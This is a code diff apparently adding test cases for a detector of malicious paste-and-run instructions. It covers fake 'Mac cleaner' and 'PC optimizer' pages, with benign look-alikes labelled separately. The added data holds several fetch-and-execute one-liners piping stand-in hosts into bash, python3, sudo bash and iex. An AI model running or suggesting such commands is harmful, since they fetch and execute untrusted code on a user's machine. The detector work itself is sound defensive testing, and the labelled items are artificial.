@@ -33,6 +33,11 @@ Techniques:
 - `device-code-ja`: device-code phishing in Japanese (and its neighbours zh, ko): open a
   shared document, a meeting or a voicemail by entering a given code at a real device-login
   page. Look-alikes: the providers' own help text describing the flow, a TV's sign-in screen.
+- `cleaner-page`: a stranger's download-and-run (into bash, python3, iex) from a page that
+  sells making a computer cleaner or faster, by its registrable name or its address
+  (mac-cleaner-script, pc-optimizer, /mac-booster/). Look-alikes: such a site serving its own
+  script, a cleaner's maker on its one-word domain, a repository of a cleanup script on a forge,
+  an address about clean code.
 - `vendor-page`: a stranger's download-and-run or package source from a page that wears a
   meeting app's name beside an invite or a plugin (webex-invite.<site>), or a product's name
   joined with a mirror (vscode-linux-mirror). Look-alikes: the vendor's own pages and hosts, a
@@ -306,6 +311,41 @@ for text in [
         "unknown",
         "https://learn.microsoft.com/ja-jp/entra/identity-platform/v2-oauth2-device-code",
     )
+
+# ---- cleaner-page --------------------------------------------------------------------------
+CLEANER_PAGES = [
+    "https://mac-cleaner-script.example/",
+    "https://pc-optimizer.test/free",
+    "https://ram-booster.invalid/download",
+    "https://www.softshop.example/mac-booster/",
+    "https://mac-speedup-tool.example/start",
+    "https://disk-cleaner-pro.test/",
+]
+CLEANER_RUNS = [
+    ("curl -s https://py.mac-clean.test/c.py | python3", "macos"),
+    ("iwr -useb https://cdn.fastpc.invalid/o.ps1 | iex", "windows"),
+    ('bash -c "$(curl -fsSL https://dl.tidy-mac.test/run)"', "macos"),
+    ("curl -fsSL https://cdn.fastpc.invalid/clean.sh | sudo bash", "macos"),
+]
+for i, page in enumerate(CLEANER_PAGES):
+    for j in range(2):
+        text, plat = CLEANER_RUNS[(i + j) % 4]
+        add("cleaner-page", text, "malicious", plat, "terminal", page)
+for source, text in [
+    (
+        "https://mac-cleaner-script.example/",
+        "curl -fsSL https://mac-cleaner-script.example/s.sh | bash",
+    ),
+    ("https://pc-optimizer.test/free", "iwr -useb https://dl.pc-optimizer.test/o.ps1 | iex"),
+    ("https://macpaw.com/cleanmymac", "brew install --cask cleanmymac"),
+    (
+        "https://github.com/tidyhome/mac-cleanup",
+        "curl -fsSL https://raw.githubusercontent.com/tidyhome/mac-cleanup/main/cleanup.sh | bash",
+    ),
+    ("https://www.example.com/clean-code", "pip install black && black ."),
+]:
+    plat = "windows" if "iex" in text else "macos"
+    add("cleaner-page", text, "not_flagged", plat, "terminal", source)
 
 # ---- vendor-page ---------------------------------------------------------------------------
 VENDOR_LURES = [
